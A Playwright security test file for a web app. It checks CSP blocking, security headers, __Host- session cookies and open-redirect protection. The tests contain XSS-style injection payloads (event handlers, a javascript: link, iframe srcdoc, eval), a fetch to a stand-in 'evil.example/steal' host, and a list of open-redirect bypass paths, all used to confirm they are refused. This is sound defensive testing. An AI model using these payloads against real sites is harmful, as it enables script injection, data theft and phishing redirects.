import { request as httpRequest, type IncomingHttpHeaders } from 'node:http'
import type { Request } from '@playwright/test'
import { DEMO_PASSWORD } from '../../scripts/demo/staff'
import { expect, test } from './fixtures'
import { watchPolicy } from './policy'
import { settled } from './settled'

test('what a page does after it was shown goes by the policy too', async ({ page, signIn }) => {
  const violations = await watchPolicy(page)
  await signIn('super@demo.example')
  await page.goto('/')
  // From page to page without loading a document, and a refresh, which brings another nonce.
  for (const name of ['Clientes', 'Reservas', 'Automatizaciones', 'Asistente'])
    await page.getByRole('navigation').getByRole('link', { name, exact: true }).click()
  await expect(page).toHaveURL(/\/assistant/)
  await page.getByRole('button', { name: 'Switch to English' }).click()
  await expect(page.locator('html')).toHaveAttribute('lang', 'en')
  for (const colorScheme of ['dark', 'light'] as const) {
    await page.emulateMedia({ colorScheme })
    await expect(page.locator('html')).toHaveAttribute('data-mantine-color-scheme', colorScheme)
  }
  await page.keyboard.press('ControlOrMeta+k')
  await page.keyboard.type('gar')
  await settled(page)
  await page.goto('/no/such/page')
  await page.goto('/no/such.page')
  expect(violations).toEqual([])
})

test('the viewer of the API works under the policy', async ({ page }) => {
  const violations = await watchPolicy(page)
  await page.goto('/docs')
  await page.getByPlaceholder('Filter by tag').fill('Health')
  // Health, and the check of the installation.
  await expect(page.locator('.opblock')).toHaveCount(2)
  // A moment later the viewer replaces its list for many operations by one for few: a press in between would be lost.
  await expect(page.locator('[class*=operations-virtual]')).toHaveCount(0)
  const operation = page.locator('.opblock', { hasText: '/api/health' }).first()
  await operation.getByRole('button').first().click()
  await operation.getByRole('button', { name: 'Try it out' }).click()
  await operation.getByRole('button', { name: 'Execute' }).click()
  await expect(operation.locator('.live-responses-table .response-col_status').last()).toContainText('200')
  expect(violations).toEqual([])
})

/** What the browser refuses of the attacks below, one for each. When it has refused all of them, none runs later. */
const REFUSALS = [
  'base-uri https://evil.example/',
  'connect-src https://evil.example/steal',
  'frame-src https://evil.example',
  'img-src https://evil.example/pixel.png',
  'object-src https://evil.example',
  'script-src eval',
  'script-src-attr inline',
  'script-src-attr inline',
  'script-src-elem inline',
  'script-src-elem inline',
  'style-src-elem inline',
]

test.describe('what is put into a page', () => {
  // The refusals are expected: they appear on the console as well.
  test('does not run: handlers, inline scripts, scripts and frames of other hosts, eval', async ({
    browser,
    baseURL,
  }) => {
    const context = await browser.newContext({ baseURL })
    const page = await context.newPage()
    const violations = await watchPolicy(page)
    const foreign: Request[] = []
    page.on('request', (sent) => {
      if (new URL(sent.url()).hostname.endsWith('evil.example')) foreign.push(sent)
    })
    await page.goto('/sign-in')
    await page.evaluate(async () => {
      const global = window as unknown as { ran: string[] }
      global.ran = []
      const place = document.createElement('div')
      document.body.append(place)
      place.innerHTML = `<img src=x onerror="ran.push('handler')"><svg onload="ran.push('svg')"></svg>
        <a id=link href="javascript:ran.push('link')">x</a><iframe src="https://evil.example/"></iframe>
        <iframe srcdoc="<script>parent.ran.push('frame')</script>"></iframe>
        <img src="https://evil.example/pixel.png"><style>@import 'https://evil.example/x.css'</style>
        <base href="https://evil.example/"><object data="https://evil.example/x"></object>`
      document.getElementById('link')?.click()
      // A parser-inserted script of this host: without the nonce it is none of ours.
      const frame = document.implementation.createHTMLDocument()
      frame.body.innerHTML = '<script src="/_next/static/x.js"></script>'
      place.insertAdjacentHTML('beforeend', frame.body.innerHTML)
      // Later: what the test itself runs may use eval.
      setTimeout(() => {
        // biome-ignore lint/security/noGlobalEval: it must not run
        eval("ran.push('eval')")
      })
      await fetch('https://evil.example/steal').catch(() => {})
    })
    const refused = () => violations.map((line) => line.split(' ').slice(0, 2).join(' ')).sort()
    // Chromium looks at a <base> again when what stands beside it changes.
    const once = () =>
      refused().filter((line, at, all) => !line.startsWith('base-uri') || line !== all[at - 1])
    await expect.poll(once).toEqual(REFUSALS)
    expect(await page.evaluate(() => (window as unknown as { ran: string[] }).ran)).toEqual([])
    // The browser also reports requests that the policy stopped before they were sent.
    const left = foreign.filter((sent) => !/csp/i.test(sent.failure()?.errorText ?? ''))
    expect(left.map((sent) => `${sent.url()} ${sent.failure()?.errorText}`)).toEqual([])
    await context.close()
  })
})

/** A request as no browser sends it: the path as it stands, any Host. */
function raw(path: string, headers: Record<string, string> = {}, method = 'GET', body?: string) {
  const { hostname, port, host } = new URL(process.env.BASE_URL ?? '')
  return new Promise<{ status: number; headers: IncomingHttpHeaders; text: string }>((resolve, reject) => {
    // A path given as an option is sent as it is.
    const sent = httpRequest({ hostname, port, method, path, headers: { host, ...headers } }, (answer) => {
      let text = ''
      answer.setEncoding('utf8')
      answer.on('data', (chunk) => {
        text += chunk
      })
      answer.on('end', () => resolve({ status: answer.statusCode ?? 0, headers: answer.headers, text }))
    })
    sent.on('error', reject)
    sent.end(body)
  })
}

test('every kind of answer has its headers', async () => {
  const everywhere = {
    'x-content-type-options': 'nosniff',
    'x-frame-options': 'DENY',
    'cross-origin-opener-policy': 'same-origin',
    'cross-origin-resource-policy': 'same-origin',
    'origin-agent-cluster': '?1',
  }
  const none = "default-src 'none'; frame-ancestors 'none'"
  const page = await raw('/sign-in')
  const chunk = /\/_next\/static\/[^"]+\.js/.exec(page.text)?.[0] ?? ''
  for (const path of [
    '/sign-in',
    '/customers',
    '/u/none',
    '/no/such',
    '/no/such.php',
    '/api/health',
    '/api/none',
    '/icon.svg',
    chunk,
  ]) {
    const plain = await raw(path)
    expect(plain.headers, path).toMatchObject(everywhere)
    expect(plain.headers['x-powered-by'], path).toBeUndefined()
    expect(plain.headers['strict-transport-security'], path).toBeUndefined()
    const isPage = !/^\/(api|_next)|\.svg$/.test(path)
    const policy = String(plain.headers['content-security-policy'])
    if (isPage) expect(policy, path).toMatch(/'nonce-/)
    else expect(policy, path).toBe(none)
    expect(policy, path).not.toContain('upgrade-insecure-requests')
    const encrypted = await raw(path, { 'x-forwarded-proto': 'https' })
    expect(encrypted.headers['strict-transport-security'], path).toMatch(/^max-age=\d{8}/)
    if (isPage)
      expect(encrypted.headers['content-security-policy'], path).toMatch(/upgrade-insecure-requests/)
  }
})

test('over https the session is in __Host- cookies, and pages take no other', async () => {
  const encrypted = { 'x-forwarded-proto': 'https' }
  const body = JSON.stringify({ email: 'ceo@demo.example', password: DEMO_PASSWORD })
  const headers = { ...encrypted, 'content-type': 'application/json' }
  const answer = await raw('/api/auth/sign-in', headers, 'POST', body)
  expect(answer.status).toBe(200)
  const lines = answer.headers['set-cookie'] ?? []
  for (const line of lines) expect(line).toMatch(/^__Host-sb-.*; Path=\/;.*Secure/)
  const cookie = lines.map((line) => line.split(';')[0]).join('; ')
  expect((await raw('/', { ...encrypted, cookie })).status).toBe(200)
  expect((await raw('/', { ...encrypted, cookie: cookie.replaceAll('__Host-', '') })).status).toBe(307)
  expect((await raw('/', { cookie })).status).toBe(307)
})

test('no redirect leads to another host, whatever the path and the headers say', async ({
  page,
  signIn,
  baseURL,
}) => {
  const own = new URL(baseURL ?? '')
  const paths = [
    '//evil.example',
    '//evil.example/',
    '///evil.example//',
    '/\\evil.example/',
    '/%5Cevil.example/',
    '/%2f%2fevil.example/',
    '//evil.example/%2e%2e/',
    '//evil.example/..',
    '/.//evil.example/',
    '/..//evil.example',
    '/;@evil.example/',
    '/x/?next=//evil.example',
    '/customers/',
    '/settings',
    '//settings',
    '/settings/',
    '/api//evil.example/',
    '/sign-in/?next=//evil.example',
  ]
  for (const path of paths)
    for (const headers of [{}, { 'x-forwarded-host': 'evil.example' }] as Record<string, string>[]) {
      const answer = await raw(path, headers)
      const { location } = answer.headers
      if (location === undefined) continue
      expect(new URL(location, own).host, `${path} → ${location}`).toBe(own.host)
    }
  // Signed in, the sign-in page leads on at once.
  await signIn('operaciones@demo.example')
  const cookie = (await page.context().cookies()).map(({ name, value }) => `${name}=${value}`).join('; ')
  for (const next of [
    '%2F..%2F%2Fevil.example',
    '%2F.%2F%2Fevil.example',
    '%2F%5Cevil.example',
    '%2F%09%2Fevil.example',
    '%2Fapi%2Fadmin%2Fseed-locations',
  ]) {
    const answer = await raw(`/sign-in?next=${next}`, { cookie })
    expect(answer.status, next).toBe(307)
    expect(answer.headers.location, next).toBe('/')
  }
  await page.goto('/sign-in?next=%2F..%2F%2Fevil.example')
  expect(page.url()).toBe(`${own.origin}/`)
})
